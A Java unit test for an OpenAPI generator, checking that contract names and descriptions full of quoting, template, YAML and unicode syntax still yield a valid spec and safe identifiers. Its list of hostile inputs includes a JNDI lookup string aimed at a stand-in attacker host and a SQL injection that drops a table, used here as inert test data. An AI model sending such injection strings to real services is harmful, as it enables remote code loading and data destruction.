package dev.datamesh.generator.openapi;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.datamesh.contract.model.Contract;
import dev.datamesh.generator.GeneratedFile;
import dev.datamesh.generator.GeneratorOptions;
import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.parser.core.models.SwaggerParseResult;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;
import org.junit.jupiter.api.Test;

/** Names and descriptions full of quoting, template and comment syntax still give a valid spec that says the same. */
class OpenApiHostileInputTest {

    static final List<String> HOSTILE = List.of(
            "He said \"hi\" and 'bye'",
            "back\\slash \\n \\u0041 \\\\",
            "*/ /* closes a comment */",
            "${LambdaFunctionArn} ${jndi:ldap://evil.example/a} #{x}",
            "{{mustache}} {{{triple}}} {{/close}}",
            "line one\nline two\n\n  indented\n",
            "windows\r\nline\rbreaks\ttab",
            "Ünïcødé ✓ 日本語 🚀 \u2028 \u00a0 \ufeff",
            "'; DROP TABLE sales; -- \"\"\" ''' ",
            ": - # & * ! | > % @ ` [ ] { } ,",
            "---",
            "2025-03-14",
            "~",
            "  padded  ",
            "x".repeat(1000) + " " + "y".repeat(999));

    static Contract contract() {
        List<Object> properties = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            Map<String, Object> property = new LinkedHashMap<>();
            property.put("name", HOSTILE.get(i));
            property.put("logicalType", "string");
            property.put("required", i % 2 == 0);
            property.put("primaryKey", i < 3);
            property.put("description", HOSTILE.get(i));
            property.put("examples", List.of(HOSTILE.get(i)));
            property.put("logicalTypeOptions", Map.of("pattern", HOSTILE.get(i)));
            properties.add(property);
        }
        Map<String, Object> nested = new LinkedHashMap<>();
        nested.put("name", "nested " + HOSTILE.get(3));
        nested.put("logicalType", "object");
        nested.put("description", HOSTILE.get(4));
        nested.put("properties", List.of(Map.of("name", HOSTILE.get(0), "logicalType", "integer",
                "description", HOSTILE.get(5))));
        properties.add(nested);

        Map<String, Object> root = new LinkedHashMap<>();
        root.put("apiVersion", "v3.1.0");
        root.put("kind", "DataContract");
        root.put("id", HOSTILE.get(8));
        root.put("version", "1.0.0");
        root.put("status", "active");
        root.put("name", HOSTILE.get(0));
        root.put("dataProduct", HOSTILE.get(7));
        root.put("description", Map.of("purpose", HOSTILE.get(5), "usage", HOSTILE.get(3),
                "limitations", HOSTILE.get(14)));
        root.put("team", Map.of("name", HOSTILE.get(4)));
        List<Object> tables = new ArrayList<>();
        for (String name : List.of(HOSTILE.get(1), HOSTILE.get(7), HOSTILE.get(9))) {
            tables.add(Map.of("name", name, "physicalName", name, "description", HOSTILE.get(2) + name,
                    "properties", properties));
        }
        root.put("schema", tables);
        try {
            return TestContracts.parse(new YAMLMapper().writeValueAsString(root));
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void hostileTextGivesAValidSpecThatReadsBackUnchanged() throws JsonProcessingException {
        Contract contract = contract();
        List<GeneratedFile> files = new OpenApiGenerator().generate(contract, GeneratorOptions.DEFAULT);
        String yaml = files.get(0).content();

        SwaggerParseResult parsed = SwaggerParser.parse(yaml);
        assertThat(parsed.getMessages()).isEmpty();
        OpenAPI api = parsed.getOpenAPI();
        assertThat(api.getInfo().getTitle()).isEqualTo(HOSTILE.get(7));
        assertThat(api.getInfo().getDescription()).isEqualTo(HOSTILE.get(5) + "\n\nUsage: " + HOSTILE.get(3)
                + "\n\nLimitations: " + HOSTILE.get(14));
        assertThat(api.getInfo().getContact().getName()).isEqualTo(HOSTILE.get(4));
        assertThat(api.getInfo().getExtensions()).containsEntry("x-contract-id", HOSTILE.get(8));
        assertThat(api.getTags()).extracting(t -> t.getName())
                .containsExactly(HOSTILE.get(1), HOSTILE.get(7), HOSTILE.get(9));

        Schema<?> row = api.getComponents().getSchemas().values().iterator().next();
        assertThat(row.getDescription()).isEqualTo(HOSTILE.get(2) + HOSTILE.get(1));
        for (String text : HOSTILE) {
            Schema<?> property = row.getProperties().get(text);
            assertThat(property).as("property %s", text).isNotNull();
            assertThat(property.getDescription()).isEqualTo(text);
            assertThat(property.getPattern()).isEqualTo(isRegex(text) ? text : null);
            assertThat(property.getExample()).isEqualTo(text);
        }
        Schema<?> nested = api.getComponents().getSchemas().get(api.getComponents().getSchemas().keySet().stream()
                .filter(n -> n.contains("Nested")).findFirst().orElseThrow());
        assertThat(nested.getDescription()).isEqualTo(HOSTILE.get(4));
        assertThat(nested.getProperties().get(HOSTILE.get(0)).getDescription()).isEqualTo(HOSTILE.get(5));

        // a plain YAML reader sees the same text, and the integration placeholder is untouched by the contract's
        JsonNode tree = new YAMLMapper().readTree(yaml);
        assertThat(tree.at("/info/description").asText()).isEqualTo(api.getInfo().getDescription());
        tree.get("paths").forEach(item -> assertThat(item.at("/get/x-amazon-apigateway-integration/uri").asText())
                .isEqualTo("${LambdaFunctionArn}"));
    }

    private static boolean isRegex(String text) {
        try {
            Pattern.compile(text);
            return true;
        } catch (PatternSyntaxException e) {
            return false;
        }
    }

    @Test
    void hostileNamesBecomeSafeIdentifiers() {
        OpenAPI api = new OpenApiGenerator().build(contract(), OpenApiOptions.from(GeneratorOptions.DEFAULT));

        assertThat(api.getComponents().getSchemas().keySet()).allMatch(n -> n.matches("[A-Za-z0-9._-]+"))
                .contains("BackSlashNU0041", "UnicDe", "Table", "TablePage", "Error");
        assertThat(api.getPaths().keySet()).allMatch(p -> p.matches("(/([a-z0-9_-]+|\\{[A-Za-z0-9_.-]+}))+"))
                .contains("/back-slash-n-u0041", "/unic-de", "/table");
        api.getPaths().values().forEach(item -> {
            assertThat(item.getGet().getOperationId()).matches("(list|get)[A-Za-z0-9]+");
            assertThat(item.getGet().getParameters()).allMatch(p -> p.getName().matches("[A-Za-z0-9_.-]+"));
        });
    }
}
